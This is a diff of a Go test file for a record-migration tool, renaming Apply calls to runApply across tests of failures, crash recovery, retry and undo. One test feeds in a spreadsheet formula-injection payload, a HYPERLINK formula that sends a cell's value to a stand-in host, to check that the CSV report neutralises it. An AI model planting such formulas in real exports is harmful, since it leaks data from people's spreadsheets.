@@ -51,7 +51,7 @@ func TestParentWith250Lines(t *testing.T) {
 		parts[i] = fmt.Sprintf("P%d", i%3+1)
 	}
 	p, f := ordersPlan(orderWithLines("O1", 2, "C1", parts...), orderWithLines("O2", 3, "C1", "P1"))
-	sum, err := Apply(context.Background(), env.opts(t, p, f))
+	sum, err := runApply(context.Background(), env.opts(t, p, f))
 	if err != nil || !sum.Complete {
 		t.Fatalf("%v %+v", err, sum)
 	}
@@ -74,7 +74,7 @@ func TestLineFailsRestCommitted(t *testing.T) {
 	env := newSandbox(t, sandbox.Options{})
 	p, f := ordersPlan(orderWithLines("O1", 2, "C1", "P1", "NOPE", "P2"), orderWithLines("O2", 3, "C1", "P3"))
 	o := env.opts(t, p, f)
-	sum, err := Apply(context.Background(), o)
+	sum, err := runApply(context.Background(), o)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -140,7 +140,7 @@ func TestParentFailsChildrenNot(t *testing.T) {
 	t.Parallel()
 	env := newSandbox(t, sandbox.Options{})
 	p, f := ordersPlan(orderWithLines("O1", 2, "NOSUCH", "P1", "P2"), orderWithLines("O2", 3, "C1", "P1"))
-	sum, err := Apply(context.Background(), env.opts(t, p, f))
+	sum, err := runApply(context.Background(), env.opts(t, p, f))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -162,14 +162,14 @@ func TestCrashThenResumeReconciles(t *testing.T) {
 	// server committed it.
 	o := loadPartsAndCustomers(t, env, p, f)
 	env.client.failNext.Store(true)
-	sum, err := Apply(context.Background(), o)
+	sum, err := runApply(context.Background(), o)
 	if !errors.Is(err, ErrInDoubt) || stepOf(sum, "orders").InDoubt != 2 {
 		t.Fatalf("first apply: %v %+v", err, sum)
 	}
 	if n := len(env.sb.Snapshot()["ORDERS"]); n != 2 {
 		t.Fatalf("the server should hold the 2 orders, holds %d", n)
 	}
-	sum, err = Apply(context.Background(), o)
+	sum, err = runApply(context.Background(), o)
 	if err != nil || !sum.Complete || len(sum.Undecided) != 0 {
 		t.Fatalf("resume: %v %+v", err, sum)
 	}
@@ -207,8 +207,8 @@ func TestCrashBeforeCommitResends(t *testing.T) {
 	must(t, j.Append(journal.Entry{Kind: journal.KindIntent, Batch: j.NextBatch(), Subs: []journal.Sub{
 		{ID: "1", Step: "customers", Rec: "C1", Op: journal.OpCreate, Meth: "POST", URL: "CUSTOMERS", Key: "'C1'"}}}))
 	j.Close()
-	_, _ = Apply(ctx, o)
-	sum, err := Apply(context.Background(), o)
+	_, _ = runApply(ctx, o)
+	sum, err := runApply(context.Background(), o)
 	if err != nil || !sum.Complete {
 		t.Fatalf("%v %+v", err, sum)
 	}
@@ -229,17 +229,17 @@ func TestRetryFailedAfterCorrection(t *testing.T) {
 	env := newSandbox(t, sandbox.Options{})
 	p, f := ordersPlan(orderWithLines("O1", 2, "C1", "P1", "NOPE"), orderWithLines("O2", 3, "NOSUCH", "P1"), orderWithLines("O3", 4, "C1", "P2"))
 	o := env.opts(t, p, f)
-	if _, err := Apply(context.Background(), o); err != nil {
+	if _, err := runApply(context.Background(), o); err != nil {
 		t.Fatal(err)
 	}
 	// Correct the source; without RetryFailed nothing is resent.
 	f.results["orders"] = []transform.Result{orderWithLines("O1", 2, "C1", "P1", "P3"), orderWithLines("O2", 3, "C1", "P1"), orderWithLines("O3", 4, "C1", "P2")}
-	sum, err := Apply(context.Background(), o)
+	sum, err := runApply(context.Background(), o)
 	if err != nil || sum.Requests != 0 || stepOf(sum, "orders").Failed != 2 {
 		t.Fatalf("without retry: %v %+v", err, sum)
 	}
 	o.RetryFailed = true
-	sum, err = Apply(context.Background(), o)
+	sum, err = runApply(context.Background(), o)
 	if err != nil || !sum.Complete {
 		t.Fatalf("retry: %v %+v", err, sum)
 	}
@@ -268,13 +268,13 @@ func TestUndoRestoresSnapshot(t *testing.T) {
 	// Something that was there before the run stays.
 	pre := testPlan(step("customers", "CUSTOMERS"))
 	pf := &fakeRecords{results: map[string][]transform.Result{"customers": {rec("customers", "CUSTOMERS", "C0", 2, map[string]any{"CUSTNAME": "C0", "CUSTDES": "Old"})}}}
-	if _, err := Apply(context.Background(), env.opts(t, pre, pf)); err != nil {
+	if _, err := runApply(context.Background(), env.opts(t, pre, pf)); err != nil {
 		t.Fatal(err)
 	}
 	before := env.sb.Snapshot()
 	p, f := demoLoad()
 	o := env.opts(t, p, f)
-	if _, err := Apply(context.Background(), o); err != nil {
+	if _, err := runApply(context.Background(), o); err != nil {
 		t.Fatal(err)
 	}
 	list, err := Undo(context.Background(), o.Journal, env.client, UndoOptions{})
@@ -313,7 +313,7 @@ func TestOldServers(t *testing.T) {
 				id := fmt.Sprintf("C%03d", i)
 				rs = append(rs, rec("customers", "CUSTOMERS", id, i+2, map[string]any{"CUSTNAME": id, "CUSTDES": "n"}))
 			}
-			sum, err := Apply(context.Background(), env.opts(t, p, &fakeRecords{results: map[string][]transform.Result{"customers": rs}}))
+			sum, err := runApply(context.Background(), env.opts(t, p, &fakeRecords{results: map[string][]transform.Result{"customers": rs}}))
 			if err != nil || !sum.Complete {
 				t.Fatalf("%v %+v", err, sum)
 			}
@@ -332,7 +332,7 @@ func TestReportCSVNeutralisesFormulas(t *testing.T) {
 	evil := `=HYPERLINK("http://example.invalid/?"&A1,"click")`
 	p, f := ordersPlan(orderWithLines("O1", 2, "C1", evil))
 	o := env.opts(t, p, f)
-	if _, err := Apply(context.Background(), o); err != nil {
+	if _, err := runApply(context.Background(), o); err != nil {
 		t.Fatal(err)
 	}
 	out := filepath.Join(t.TempDir(), "failed.csv")
